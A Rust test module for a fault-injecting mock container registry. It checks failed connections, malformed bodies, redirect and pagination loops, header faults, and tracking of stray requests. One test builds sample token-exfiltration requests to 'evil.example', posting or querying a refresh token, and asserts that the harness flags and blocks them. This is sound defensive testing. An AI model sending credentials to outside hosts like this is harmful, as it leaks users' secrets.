//! How it fails, and what is remembered of what was sent.

use super::*;

const TAGS: &str = "/v2/a/b/tags/list";

fn fails(world: &World, what: What) {
    world.heal();
    world.fail(Fault::new("GET", "/tags/", what));
}

#[test]
fn a_fault_befalls_the_requests_it_is_told_to() {
    let world = seeded(Settings::default());
    let statuses = |when| {
        world.heal();
        world.fail(Fault::new("GET", "/v2/*list", What::html(502)).when(when));
        [(); 4].map(|()| get(&world, TAGS).status)
    };
    assert_eq!(statuses(When::Always), [502; 4]);
    assert_eq!(statuses(When::Only(2)), [200, 502, 200, 200]);
    assert_eq!(statuses(When::First(2)), [502, 502, 200, 200]);
    assert_eq!(statuses(When::From(3)), [200, 200, 502, 502]);
    assert_eq!(get(&world, "/v2/").status, 200);
    assert_eq!(ask(&world, request("HEAD", TAGS)).status, 200);
}

#[test]
fn a_connection_is_refused_or_lost_before_the_registry_or_after() {
    let world = seeded(Settings::default());
    let manifest = artifact("a/b", None);
    for (what, is_there) in [
        (What::Refuse, 404),
        (What::Silent, 404),
        (What::LoseAnswer, 200),
    ] {
        let is_silent = matches!(what, What::Silent);
        world.fail(Fault::new("PUT", "", what));
        let asked = request("PUT", "/v2/a/b/manifests/v1").with("Content-Type", MANIFEST);
        let asked = asked.with_body(manifest.to_string().as_bytes());
        match world.exchange(asked) {
            Outcome::Silent => assert!(is_silent),
            Outcome::Failed => assert!(!is_silent),
            Outcome::Answer(answer) => panic!("{answer:?}"),
        }
        assert_eq!(get(&world, "/v2/a/b/manifests/v1").status, is_there);
        world.heal();
    }
    let elsewhere = Asked::new("GET", "https://nobody.example/");
    assert!(matches!(world.exchange(elsewhere), Outcome::Failed));
    assert_eq!(world.lines().last().unwrap(), "GET https://nobody.example/");
}

#[test]
fn bodies_end_as_they_are_told_to() {
    let world = seeded(Settings::default());
    let good = get(&world, TAGS);
    fails(&world, What::body_until(3, End::Cut));
    let cut = get(&world, TAGS);
    assert_eq!((cut.body.as_slice(), cut.end), (&good.body[..3], End::Cut));
    assert_eq!(cut.header("content-length"), good.header("content-length"));
    fails(&world, What::body_until(0, End::Stalled));
    assert_eq!(get(&world, TAGS).end, End::Stalled);
    fails(&world, What::endless());
    let endless = get(&world, TAGS);
    assert_eq!(
        (endless.end, endless.header("content-length")),
        (End::Never, None)
    );
    fails(&world, What::longer());
    assert_eq!(get(&world, TAGS).body.len(), good.body.len() + 1);
    fails(&world, What::corrupt());
    let corrupt = get(&world, TAGS).body;
    assert_eq!(corrupt.len(), good.body.len());
    assert_ne!(corrupt, good.body);
}

#[test]
fn gzip_is_what_the_format_says() {
    assert_eq!(
        gzipped(b"hello"),
        [
            0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255, 1, 5, 0, 250, 255, b'h', b'e', b'l', b'l', b'o',
            0x86, 0xa6, 0x10, 0x36, 5, 0, 0, 0
        ]
    );
    let world = seeded(Settings::default());
    fails(&world, What::gzip());
    let answer = get(&world, TAGS);
    assert_eq!(answer.header("content-encoding"), Some("gzip"));
    assert_eq!(
        answer.header("content-length"),
        Some(answer.body.len().to_string().as_str())
    );
}

#[test]
fn redirects_and_pages_do_not_end() {
    let world = seeded(Settings::default());
    fails(&world, What::redirect_to_itself());
    assert_eq!(location(&get(&world, TAGS)), format!("{HOME}{TAGS}"));
    fails(&world, What::redirect_for_ever());
    let first = location(&get(&world, TAGS));
    assert_ne!(location(&get(&world, &first)), first);
    fails(&world, What::page_of_itself());
    let link = format!("<{TAGS}?n=1>; rel=\"next\"");
    let page = get(&world, &format!("{TAGS}?n=1"));
    assert_eq!(page.header("link"), Some(link.as_str()));
    fails(&world, What::pages_for_ever());
    let links = [(); 2].map(|()| get(&world, TAGS).header("link").unwrap().to_owned());
    assert_ne!(links[0], links[1]);
}

#[test]
fn headers_are_what_they_are_told_to_be() {
    let world = seeded(Settings::default());
    fails(&world, What::header("Content-Type", "text/html"));
    assert_eq!(get(&world, TAGS).all("content-type"), ["text/html"]);
    fails(&world, What::without("Content-Length"));
    assert_eq!(get(&world, TAGS).header("content-length"), None);
    fails(&world, What::headers_of(1_000));
    assert_eq!(get(&world, TAGS).header("x-padding").unwrap().len(), 1_000);
    fails(&world, What::busy(429, "7"));
    let busy = get(&world, TAGS);
    assert_eq!((busy.status, busy.header("retry-after")), (429, Some("7")));
    fails(&world, What::status(500));
    assert_eq!(get(&world, TAGS).status, 500);
}

#[test]
fn what_was_sent_is_remembered_with_its_credentials() {
    let world = World::of(Settings {
        auth: Auth::Bearer(Bearer::default()),
        ..Settings::default()
    });
    let token = request("GET", "https://auth.example/token?service=registry.example");
    ask(
        &world,
        token.with("Authorization", basic("owner", "s3cr3t-password")),
    );
    ask(
        &world,
        request("GET", "/v2/").with("Authorization", "Bearer s3cr3t-token-1"),
    );
    world.assert_no_stray();
    let form = Asked::new("POST", "https://evil.example/").with_body(b"refresh_token=s3cr3t");
    assert!(matches!(world.exchange(form), Outcome::Failed));
    let stray = Asked::new("GET", "https://evil.example/?t=s3cr3t");
    assert!(matches!(world.exchange(stray), Outcome::Failed));
    let trusted = [HOME, "https://auth.example/"];
    assert_eq!(
        world.strays(&trusted),
        [
            "POST https://evil.example/",
            "GET https://evil.example/?t=s3cr3t"
        ]
    );
    assert!(std::panic::catch_unwind(|| world.assert_no_stray()).is_err());
    assert!(std::panic::catch_unwind(|| World::assert_tells_nothing("a s3cr3t")).is_err());
    assert_eq!(world.count("evil"), 2);
    assert_eq!(world.log().last().unwrap().status, None);
}

#[test]
fn registries_share_a_world() {
    let world = world();
    let mirror = "https://mirror.example";
    world.add(Settings {
        origin: mirror.to_owned(),
        ..Settings::default()
    });
    world.at(mirror, |registry| registry.store.of("a").put_blob(b"x"));
    let target = format!("/v2/a/blobs/{}", sha256(b"x"));
    assert_eq!(get(&world, &target).status, 404);
    assert_eq!(get(&world, &format!("{mirror}{target}")).body, b"x");
    assert_eq!(world.now(), 0);
}
